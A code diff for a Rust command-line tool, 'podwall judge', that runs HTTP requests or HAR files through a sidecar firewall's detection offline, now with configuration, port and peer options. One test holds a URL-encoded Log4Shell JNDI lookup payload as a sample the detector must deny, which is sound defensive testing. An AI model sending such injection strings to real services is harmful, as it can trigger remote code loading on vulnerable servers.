@@ -1,43 +1,66 @@
-//! `podwall judge`: requests from files through the decoding and detection of the data path, and what was found in them.
-//! Everything is granted; only attacks and malformed messages are denied.
+//! `podwall judge`: messages from files through the decoding and judging of the data path, and what was found in them.
+//! A configuration says what is granted; without one everything is, and only attacks and malformed messages are denied.
 
+mod clock;
+mod har;
+mod http;
 mod report;
 mod rows;
+mod setup;
 mod verdict;
+mod wire;
 
-use crate::detect::{Detectors, signature};
-use crate::flow::Sensitivity;
+use crate::flow::{Sensitivity, SpiffeId};
 use lexopt::prelude::{Long, Short, Value, ValueExt};
+use setup::Judge;
 use std::ffi::OsString;
-use std::fs;
-use std::io::{self, Read, Write};
-use std::path::PathBuf;
+use std::fs::File;
+use std::io::{self, BufRead, BufReader, Read, Write};
+use std::path::{Path, PathBuf};
 use std::process::ExitCode;
 
 /// What `podwall judge --help` says.
 pub const HELP: &str = "\
-Judges requests as the sidecar would if its allowlist granted everything.
+Judges messages as the sidecar would, without a network: what is denied, why, and where it was found.
 
-Usage: podwall judge FILE...                        raw HTTP/1.1 requests; - is the standard input
-       podwall judge --rows FILE... --out FILE.tsv  JSON lines, also gzipped
+Usage: podwall judge [OPTIONS] FILE...                  HTTP/1.1 requests as on the wire, or a HAR file; - is the
+                                                        standard input
+       podwall judge [OPTIONS] --rows FILE...           JSON lines
+       podwall judge [OPTIONS] --rows FILE... --out TSV the same, for measuring
 
-  --sensitivity WORD  low, default or high (default)
-  --with PATH         a file, or a folder of *.yaml, of own signatures; may be repeated
-  --rows              FILEs hold one JSON object per line: {\"id\", \"request\": {\"method\", \"path\", \"headers\":
-                      [[name, value]...], \"body_b64\"}} or {\"id\", \"request\": {\"raw_b64\"}}
-  --out FILE.tsv      where rows go: id, allow or deny, status with reason, nanoseconds; separated by tabs
+  --config FILE       the bootstrap configuration whose allowlists, signatures and limits hold (kind: Podwall)
+  --port N            the declared port that they arrive on; the first one otherwise
+  --peer SPIFFE-ID    who sends them; nobody who is known, otherwise
+  --sensitivity WORD  low, default or high; not with --config
+  --with PATH         a file, or a folder of *.yaml, of own signatures; may be repeated; not with --config
+  --rows              each line of FILEs is one JSON object with an `id` and one of these:
+                      request  {\"method\", \"path\", \"headers\": [[name, value]...], \"body_b64\"} or {\"raw_b64\"}
+  --out TSV           where verdicts go: id, allow or deny, answer with reason and signs, nanoseconds of CPU;
+                      separated by tabs
 
-Exit codes: 0 everything was allowed (or rows were written), 1 something was denied, 2 wrong usage,
+Files that end in .gz are unpacked. Without --config everything is granted, so that only inspection decides. A build
+without the sidecar knows no --config.
+
+Exit codes: 0 everything was allowed (or verdicts were written), 1 something was denied, 2 wrong usage,
 3 a file could not be read or written.
 ";
 
 /// What is asked for.
 struct Asked {
     files: Vec<PathBuf>,
-    with: Vec<PathBuf>,
-    sensitivity: Sensitivity,
     rows: bool,
     out: Option<PathBuf>,
+    terms: Terms,
+}
+
+/// Under which terms is judged.
+#[derive(Default)]
+struct Terms {
+    config: Option<PathBuf>,
+    port: Option<u16>,
+    peer: Option<SpiffeId>,
+    sensitivity: Option<Sensitivity>,
+    with: Vec<PathBuf>,
 }
 
 /// Runs `podwall judge …`; `arguments` come after the command's name.
@@ -53,16 +76,11 @@ pub fn run(arguments: impl IntoIterator<Item = OsString>) -> ExitCode {
             return ExitCode::from(super::USAGE);
         }
     };
-    let judged = signature::load(&asked.with).and_then(|signatures| {
-        let judge = verdict::Judge { detectors: Detectors::new(signatures), sensitivity: asked.sensitivity };
-        let done = if asked.rows { judge_rows(&judge, &asked) } else { judge_files(&judge, &asked.files) };
-        done.map_err(|error| format!("podwall judge: {error}\n"))
-    });
-    match judged {
+    match Judge::new(&asked.terms).and_then(|judge| judge_all(&judge, &asked)) {
         Ok(true) => ExitCode::SUCCESS,
         Ok(false) => ExitCode::FAILURE,
         Err(text) => {
-            eprint!("{text}");
+            eprintln!("podwall judge: {}", text.trim_end());
             ExitCode::from(3)
         }
     }
@@ -71,21 +89,26 @@ pub fn run(arguments: impl IntoIterator<Item = OsString>) -> ExitCode {
 /// Nothing when help is asked for.
 fn parse(arguments: impl IntoIterator<Item = OsString>) -> Result<Option<Asked>, lexopt::Error> {
     let mut parser = lexopt::Parser::from_args(arguments);
-    let mut asked = Asked { files: vec![], with: vec![], sensitivity: Sensitivity::Default, rows: false, out: None };
+    let mut asked = Asked { files: vec![], rows: false, out: None, terms: Terms::default() };
     while let Some(argument) = parser.next()? {
         match argument {
             Long("rows") => asked.rows = true,
             Long("out") => asked.out = Some(parser.value()?.into()),
-            Long("with") => asked.with.push(parser.value()?.into()),
-            Long("sensitivity") => asked.sensitivity = sensitivity(&parser.value()?.string()?)?,
+            Long("config") => asked.terms.config = Some(parser.value()?.into()),
+            Long("port") => asked.terms.port = Some(parser.value()?.parse()?),
+            Long("peer") => asked.terms.peer = Some(peer(&parser.value()?.string()?)?),
+            Long("with") => asked.terms.with.push(parser.value()?.into()),
+            Long("sensitivity") => asked.terms.sensitivity = Some(sensitivity(&parser.value()?.string()?)?),
             Long("help") | Short('h') => return Ok(None),
             Value(file) => asked.files.push(file.into()),
             other => return Err(other.unexpected()),
         }
     }
-    match (asked.files.is_empty(), asked.rows == asked.out.is_some()) {
-        (true, _) => Err("name a file".into()),
-        (_, false) => Err("--rows and --out go together".into()),
+    let own = asked.terms.sensitivity.is_some() || !asked.terms.with.is_empty();
+    match asked.files.is_empty() {
+        true => Err("name a file".into()),
+        _ if asked.out.is_some() && !asked.rows => Err("--out goes with --rows".into()),
+        _ if own && asked.terms.config.is_some() => Err("the configuration names sensitivity and signatures".into()),
         _ => Ok(Some(asked)),
     }
 }
@@ -97,35 +120,68 @@ fn sensitivity(word: &str) -> Result<Sensitivity, lexopt::Error> {
         .ok_or_else(|| format!("`{}` is not low, default or high", word.escape_debug()).into())
 }
 
-/// Whether everything was allowed.
-fn judge_files(judge: &verdict::Judge, files: &[PathBuf]) -> io::Result<bool> {
-    let mut allowed = true;
-    for file in files {
-        let mut bytes = Vec::new();
-        if file.as_os_str() == "-" {
-            io::stdin().read_to_end(&mut bytes)?;
-        } else {
-            bytes = fs::read(file).map_err(|error| named(file, &error))?;
+fn peer(word: &str) -> Result<SpiffeId, lexopt::Error> {
+    SpiffeId::parse(word).map_err(|why| format!("`{}` {}", word.escape_debug(), why.0).into())
+}
+
+/// Whether everything was allowed, or written where it was asked for.
+fn judge_all(judge: &Judge, asked: &Asked) -> Result<bool, String> {
+    let named = |file: &Path| format!("{}: ", file.display());
+    let Some(path) = &asked.out else {
+        let mut out = io::stdout().lock();
+        let mut allowed = true;
+        for file in &asked.files {
+            allowed &= show(judge, asked.rows, file, &mut out).map_err(|error| named(file) + &error.to_string())?;
         }
-        let verdict = judge.judge(&bytes);
+        return Ok(allowed);
+    };
+    let written = |error: io::Error| named(path) + &error.to_string();
+    let mut out = io::BufWriter::new(File::create(path).map_err(written)?);
+    for file in &asked.files {
+        let lines = open(file).map_err(|error| named(file) + &error.to_string())?;
+        rows::write(judge, lines, &mut out).map_err(|error| named(file) + &error.to_string())?;
+    }
+    out.flush().map_err(written)?;
+    Ok(true)
+}
+
+/// Prints a verdict for each message of a file; whether all are allowed.
+fn show(judge: &Judge, rows: bool, file: &Path, out: &mut impl Write) -> io::Result<bool> {
+    if rows {
+        return rows::show(judge, open(file)?, out);
+    }
+    let mut bytes = Vec::new();
+    open(file)?.read_to_end(&mut bytes)?;
+    let mut allowed = true;
+    for (name, verdict) in requests(judge, &file.display().to_string(), &bytes)? {
         allowed &= !verdict.denies();
-        io::stdout().write_all(report::text(&file.display().to_string(), &verdict).as_bytes())?;
+        out.write_all(report::text(&name, &verdict).as_bytes())?;
     }
     Ok(allowed)
 }
 
-fn judge_rows(judge: &verdict::Judge, asked: &Asked) -> io::Result<bool> {
-    let Some(out) = &asked.out else { return Ok(true) };
-    let mut out = io::BufWriter::new(fs::File::create(out).map_err(|error| named(out, &error))?);
-    for file in &asked.files {
-        rows::judge(judge, file, &mut out).map_err(|error| named(file, &error))?;
+/// Every request of a file with its verdict. A HAR file is a JSON object; no request begins with a brace.
+fn requests(judge: &Judge, name: &str, bytes: &[u8]) -> io::Result<Vec<(String, verdict::Verdict)>> {
+    if bytes.trim_ascii_start().starts_with(b"{") {
+        let judged = har::requests(bytes)?.into_iter().map(|(url, wire)| (url, judge.first(&wire)));
+        return Ok(judged.collect());
     }
-    out.flush()?;
-    Ok(true)
+    let verdicts = judge.each(bytes);
+    let several = verdicts.len() > 1;
+    let numbered = |number: usize| if several { format!("{name} #{}", number + 1) } else { name.to_owned() };
+    Ok(verdicts.into_iter().enumerate().map(|(number, verdict)| (numbered(number), verdict)).collect())
 }
 
-fn named(file: &std::path::Path, error: &io::Error) -> io::Error {
-    io::Error::new(error.kind(), format!("{}: {error}", file.display()))
+fn open(file: &Path) -> io::Result<Box<dyn BufRead>> {
+    if file.as_os_str() == "-" {
+        return Ok(Box::new(BufReader::new(io::stdin())));
+    }
+    let opened = File::open(file)?;
+    if file.extension().is_some_and(|extension| extension == "gz") {
+        #[allow(clippy::disallowed_types)] // a file that the user names, not a body from the wire
+        return Ok(Box::new(BufReader::new(flate2::read::MultiGzDecoder::new(opened))));
+    }
+    Ok(Box::new(BufReader::new(opened)))
 }
 
 #[cfg(test)]
@@ -139,6 +195,24 @@ mod tests {
     #[test]
     fn usage_is_checked() {
         assert!(parsed(&["a.http"]) && parsed(&["--rows", "a.jsonl", "--out", "b.tsv", "--sensitivity", "high"]));
-        assert!(!parsed(&[]) && !parsed(&["--rows", "a.jsonl"]) && !parsed(&["a.http", "--sensitivity", "most"]));
+        assert!(parsed(&["--config", "c.yaml", "--port", "80", "--peer", "spiffe://d/ns/a/sa/b", "a.http"]));
+        for wrong in [
+            &[][..],
+            &["--out", "b.tsv", "a.http"],
+            &["a.http", "--sensitivity", "most"],
+            &["a.http", "--config", "c.yaml", "--sensitivity", "low"],
+            &["a.http", "--peer", "shop"],
+        ] {
+            assert!(!parsed(wrong), "{wrong:?}");
+        }
+    }
+
+    #[test]
+    fn each_request_of_a_file_has_its_verdict() {
+        let judge = Judge::new(&Terms::default()).unwrap();
+        let wire = b"GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /?q=%24%7Bjndi:ldap://x/a%7D HTTP/1.1\r\nHost: a\r\n\r\n";
+        let verdicts = requests(&judge, "f", wire).unwrap();
+        let told: Vec<_> = verdicts.iter().map(|(name, verdict)| (name.as_str(), verdict.denies())).collect();
+        assert_eq!(told, [("f #1", false), ("f #2", true)]);
     }
 }
